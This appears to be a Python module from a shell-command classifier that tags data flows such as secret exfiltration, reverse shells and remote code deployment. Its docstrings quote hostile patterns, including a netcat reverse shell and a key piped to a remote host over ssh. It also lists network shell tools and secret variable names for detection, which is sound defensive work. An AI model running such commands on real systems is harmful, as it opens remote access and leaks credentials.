"""Where content comes from and goes: secrets sent away, files written and run later, sources of what is printed.

In: the effects one command added, and the streams it was fed. Out: flows and tags in the collector, and what the state
remembers of files.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from typing import TYPE_CHECKING

from classifiers.effects import Domain, Effect, FlowKind, PathScope, Reversibility, Sensitivity, Tag, Verb
from classifiers.knowledge import lookup
from classifiers.knowledge.reading import Told
from classifiers.knowledge.words import Word
from classifiers.shell.state import State, Stream

if TYPE_CHECKING:
    from classifiers.knowledge.arguments import Parsed
    from classifiers.shell.evaluate import Evaluator

_ATTRIBUTES = frozenset({"chmod", "chown", "chgrp", "touch", "chattr", "setfacl", "xattr"})
DUMPERS = frozenset({"pg_dump", "pg_dumpall", "mysqldump", "mariadb-dump"})  # they print SQL that makes a database anew
ARCHIVERS = frozenset({"tar", "zip", "7z", "cpio", "rar", "unrar", "git-archive", "dd"})
UNPACKERS = frozenset({"tar", "bsdtar", "gtar", "unzip", "7z", "7za", "7zz", "cpio", "unrar", "bsdcpio", "pax"})
# Programs that only carry bytes to another host: what a shell prints into them goes to whoever answers.
TALKERS = frozenset({"nc", "ncat", "netcat", "nc.openbsd", "nc.traditional", "telnet", "openssl", "socat", "pwncat"})
_BIN = re.compile(
    r"(?:.*/)?(?:s?bin|\.bin|libexec(?:/ApplicationFirewall)?|Scripts)/([^/]+)\Z|(?:/usr/(?:lib|share)/[^/]+/)([^/]+)\Z"
)
_SOURCES = {
    (Domain.ENVIRONMENT, Verb.READ),
    (Domain.NETWORK, Verb.SEND),
    (Domain.NETWORK, Verb.EXECUTE),
    (Domain.NETWORK, Verb.RECEIVE),
    (Domain.SECRETS, Verb.READ),
    (Domain.FILESYSTEM, Verb.READ),
    (Domain.CLOUD, Verb.READ),
    (Domain.DATABASE, Verb.READ),
}
_SECRET_NAME = re.compile(r"SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|PRIVATE_KEY|ACCESS_KEY|CREDENTIALS?\b", re.IGNORECASE)
_SECRET = frozenset({Sensitivity.PRIVATE_KEY, Sensitivity.CREDENTIAL, Sensitivity.ENV_SECRET})


def is_secret(effect: Effect) -> bool:
    """Whether what this effect touches is a secret, or the whole environment (which holds some)."""
    if effect.domain is Domain.SECRETS and effect.action is Verb.READ:
        return True
    if effect.domain is Domain.ENVIRONMENT and effect.action is Verb.READ and effect.target:
        return effect.target == "env:*" or _SECRET_NAME.search(effect.target) is not None
    return effect.sensitivity in _SECRET and effect.domain is Domain.FILESYSTEM and effect.action is not Verb.DELETE


def is_remote(effect: Effect) -> bool:
    """Whether what this effect yields was made elsewhere: downloads, sockets, another machine's output."""
    if effect.domain is Domain.NETWORK:
        return effect.action in {Verb.RECEIVE, Verb.SEND, Verb.EXECUTE}
    return effect.action is Verb.RECEIVE


def is_source(ev: Evaluator, index: int) -> bool:
    effect = ev.out.effects[index]
    return (effect.domain, effect.action) in _SOURCES or _is_unread_shell(effect)


def _is_unread_shell(effect: Effect) -> bool:
    return (effect.domain, effect.action, effect.target, effect.destructive) == (Domain.CODE, Verb.EXECUTE, None, None)


def answering_shell(ev: Evaluator, own: list[int], inputs: list[Stream]) -> None:
    """``cat fifo | sh -i | nc host port > fifo``: a shell that reads what was not seen and answers over the network."""
    if not any(ev.out.effects[i].domain is Domain.NETWORK for i in own):
        return
    for index in (s for stream in inputs for s in stream.sources):
        if _is_unread_shell(ev.out.effects[index]):
            ev.out.tag(index, Tag.REVERSE_SHELL)


def unpacked_over(ev: Evaluator, indexes: list[int]) -> None:
    """Members of an archive replace files of the same name: in a system folder those are there."""
    for i in indexes:
        effect = ev.out.effects[i]
        if effect.action is Verb.CREATE and effect.path_scope is PathScope.SYSTEM and effect.destructive is None:
            ev.out.tag(i, Tag.OVERWRITE)


def deployed(ev: Evaluator, told: list[int], inputs: list[Stream]) -> None:
    """``curl … | kubectl apply -f -``: a cluster runs what a manifest from elsewhere names."""
    effects = ev.out.effects
    fetched = [i for i in (*(s for stream in inputs for s in stream.sources), *told) if is_remote(effects[i])]
    for i in told if fetched else ():
        if effects[i].domain is Domain.CLOUD and effects[i].action in {Verb.CREATE, Verb.MODIFY}:
            for source in dict.fromkeys(fetched):
                ev.out.flow(FlowKind.REMOTE_CODE, source, i)
            ev.out.tag(i, Tag.REMOTE_CODE)


def _from_nothing(parsed: Parsed, _stdin: Stream | None) -> bool:
    operands = [w.text for w in parsed.operands]
    return len(operands) == 2 and operands[0] == "/dev/null"


def _of_nothing(parsed: Parsed, _stdin: Stream | None) -> bool:
    operands = {w.text for w in parsed.operands}
    return "if=/dev/null" in operands and not any("append" in o or "notrunc" in o for o in operands)


def _fed_nothing(parsed: Parsed, stdin: Stream | None) -> bool:
    return stdin is not None and stdin.text == "" and not parsed.given("-a", "--append")


# Programs that leave a file empty when nothing is what they copy.
EMPTIES = {"cp": _from_nothing, "install": _from_nothing, "dd": _of_nothing, "tee": _fed_nothing}


def emptied(ev: Evaluator, indexes: list[int]) -> None:
    """``cp /dev/null f``, ``: | tee f``: the file is as empty as after ``: > f``."""
    for i in indexes:
        if ev.out.effects[i].action in {Verb.CREATE, Verb.MODIFY}:
            ev.out.change(i, destructive=True, reversibility=Reversibility.IRREVERSIBLE)
            ev.out.tag(i, Tag.OVERWRITE)


def command_flows(
    ev: Evaluator, own: list[int], indexes: list[int], inputs: list[Stream], words: Sequence[Word]
) -> None:
    """Secrets and archives this command reads, or is fed, that it sends away."""
    effects = ev.out.effects
    fed = [s for stream in inputs for s in stream.sources if stream.archive]
    sources = [s for stream in inputs for s in stream.sources]
    secrets = [i for i in dict.fromkeys((*sources, *own)) if is_secret(effects[i]) or i in fed]
    if not secrets:
        return
    given = [s for m in ev.streams_in(list(words[1:])) for s in m.sources if s in secrets]
    for i in own:
        effect = effects[i]
        changes = effect.action in {Verb.CREATE, Verb.MODIFY} and effect.domain in {Domain.CLOUD, Domain.MESSAGING}
        asked = bool(given) and effect.domain is Domain.NETWORK  # the secret is in the address itself
        piped = any(s in sources for s in secrets)  # cat key | ssh host 'cat > k'
        remote = piped and (effect.domain, effect.action) == (Domain.NETWORK, Verb.EXECUTE)
        if (effect.action is Verb.SEND or changes or asked or remote) and not effect.dry_run:
            ev.out.tag(i, Tag.EXFILTRATION)
            for s in secrets:
                ev.out.flow(FlowKind.EXFILTRATION, s, i)
    if given and program_name(words[0].text) not in {"echo", "printf", "test", "["}:
        for s in given:
            ev.out.flow(FlowKind.SECRET_TO_ARGV, s, indexes[0] if indexes else None)


def remember(ev: Evaluator, written: list[tuple[Told, int]], own: list[int], program: str, state: State) -> None:
    """A file written by download or copy may be executed later in the same script."""
    if program in _ATTRIBUTES:
        return
    effects = ev.out.effects
    content = [i for i in own if effects[i].action is Verb.RECEIVE or is_secret(effects[i])]
    archive = program in ARCHIVERS
    if archive:
        content += [i for i in own if effects[i].action is Verb.READ]
    for item, index in written:
        if item.domain is Domain.FILESYSTEM and item.action in {Verb.CREATE, Verb.MODIFY} and item.target:
            path = state.key(item.target)
            state.files[path] = Stream(None, (*content, index), archive=archive)


def program_name(text: str) -> str | None:
    """The name knowledge is looked up by: bare, or the last part of a path into a program folder."""
    if "/" not in text:
        return text.removesuffix(".exe") if text.endswith(".exe") else text
    if text.startswith("./") and lookup(text) is not None:  # ./gradlew and other wrappers projects ship
        return text
    match = _BIN.match(text)
    if match is None:
        return next((name for pattern, name in _STANDS_FOR if pattern.fullmatch(text)), None)
    if _OWN_SCRIPTS.fullmatch(match[1] or "") and not text.startswith(("/", "~")):
        return None
    return match[1] or match[2]


# Names projects give to scripts of their own: in a relative ``bin/`` they are no system's program of that name.
_OWN_SCRIPTS = re.compile(
    r"(?:start|stop|restart|reload|run|migrate|server|console|service|update|upgrade|install|watch|serve"
    r"|init|sync|import|export|create|delete|reset|task|cron|daemon|login|convert|split|rename"
    r"|configure|env|launch|mail|kill|find|setup|test|build|deploy|clean|check|lint|format|status"
    r"|release|publish|worker|web|dev|load|dump|backup|restore|monitor|report|process|client|agent"
    r"|admin|job|schedule|seed|generate|package|bench|exec)"
)
# Paths under which every system keeps a program that runs another: the shell itself, the dynamic loader (ld.so(8)).
_STANDS_FOR = (
    (re.compile(r"/proc/(?:self|thread-self|\d+|\$\$)/exe"), "bash"),
    (re.compile(r"/lib\w*/(?:[\w-]+/)?ld-[\w.-]+\.so\.\d+"), "ld.so"),
)
